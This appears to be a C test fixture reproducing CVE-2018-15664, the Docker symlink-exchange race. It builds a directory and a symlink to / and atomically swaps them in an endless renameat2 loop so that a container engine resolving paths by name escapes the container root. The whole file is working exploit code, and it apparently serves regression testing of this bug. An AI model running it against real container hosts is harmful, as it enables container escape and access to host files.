/* The hostile container of CVE-2018-15664: /w/d is a directory, /w/l a symlink to /,
 * and the two names are exchanged atomically in a tight loop, so that an engine that
 * resolves a path once and opens it later by name walks out of the container's root.
 *
 * usage: swap NAME [DIR]
 *   DIR (default /w) holds d and l; DIR/d/NAME holds "inside-dir\n" and /NAME
 *   "inside-root\n", so a reader can tell which side of the swap it landed on.
 *   DIR/ready is created once the loop is about to start.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        return -1;
    ssize_t n = write(fd, text, strlen(text));
    close(fd);
    return n == (ssize_t)strlen(text) ? 0 : -1;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: swap NAME [DIR]\n");
        return 2;
    }
    const char *name = argv[1];
    const char *dir = argc > 2 ? argv[2] : "/w";
    char d[4096], l[4096], p[4096];
    snprintf(d, sizeof d, "%s/d", dir);
    snprintf(l, sizeof l, "%s/l", dir);
    if ((mkdir(dir, 0755) < 0 && errno != EEXIST) || (mkdir(d, 0755) < 0 && errno != EEXIST) ||
        (symlink("/", l) < 0 && errno != EEXIST)) {
        perror("setup");
        return 1;
    }
    snprintf(p, sizeof p, "%s/%s", d, name);
    if (put(p, "inside-dir\n") < 0) {
        perror(p);
        return 1;
    }
    snprintf(p, sizeof p, "/%s", name);
    if (put(p, "inside-root\n") < 0) {
        perror(p);
        return 1;
    }
    snprintf(p, sizeof p, "%s/ready", dir);
    if (put(p, "1\n") < 0) {
        perror(p);
        return 1;
    }
    /* the raw syscall: busybox images have no libc, and static glibc may predate renameat2 */
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE) < 0) {
            perror("renameat2");
            return 1;
        }
    }
}
